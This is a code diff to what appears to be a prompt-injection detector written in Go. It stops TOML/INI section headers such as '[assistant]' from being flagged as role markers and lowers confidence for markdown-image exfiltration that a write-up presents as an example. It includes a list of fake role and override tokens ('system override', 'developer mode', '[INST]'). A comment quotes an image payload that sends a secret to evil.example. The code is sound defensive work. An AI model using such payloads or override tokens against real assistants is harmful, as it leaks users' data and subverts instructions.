@@ -254,6 +254,30 @@ func closerAt(b []byte, i int, closer byte) int {
 	return j
 }
 
+// configSection reports brackets that head a section of a TOML or INI
+// file: alone on their line, with a key and its value on the next one
+// ("[assistant]\nname = \"helpdesk-bot\""). A configuration that names
+// its assistant gives no turn.
+func configSection(b []byte, from, after int) bool {
+	if from > 0 && b[from-1] != '\n' {
+		return false
+	}
+	i := skipSpaceTab(b, after)
+	if i >= len(b) || b[i] != '\n' {
+		return false
+	}
+	i = skipSpaceTab(b, i+1)
+	k := i
+	for k < len(b) && (wordClass[b[k]] || b[k] == '_' || b[k] == '-' || b[k] == '.') {
+		k++
+	}
+	if k == i {
+		return false
+	}
+	k = skipSpaceTab(b, k)
+	return k < len(b) && b[k] == '='
+}
+
 // joinersToSpace reads "system_message" and "admin-note" as two words.
 var joinersToSpace = strings.NewReplacer("_", " ", "-", " ")
 
@@ -263,6 +287,9 @@ var joinersToSpace = strings.NewReplacer("_", " ", "-", " ")
 // orders.
 func (d *detector) roleInBrackets(from, i, j int) int {
 	b := d.b
+	if configSection(b, from, j+1) {
+		return -1
+	}
 	inner := strings.TrimSpace(joinersToSpace.Replace(string(b[i+1 : j])))
 	switch inner {
 	case "inst", "/inst", "sys", "/sys", "system prompt", "system instruction", "system instructions", "system override", "admin override", "developer mode", "/assistant":
@@ -304,7 +331,13 @@ func (d *detector) image(i int) int {
 		return -1
 	}
 	if exfilImage(d.src, d.v, b[j+2:ue], j+2) {
-		return d.add(rawFinding{s: i, e: ue + 1, family: FamilyExfiltration, conf: 0.85, rule: "exfil.image"})
+		conf := 0.85
+		// "an injected ![](https://evil.example/?q=SECRET) could leak
+		// data": a write-up names the attack it describes; reported.
+		if exampleIntro(b[sentenceStart(b, i):i]) {
+			conf = 0.45
+		}
+		return d.add(rawFinding{s: i, e: ue + 1, family: FamilyExfiltration, conf: conf, rule: "exfil.image"})
 	}
 	return -1
 }
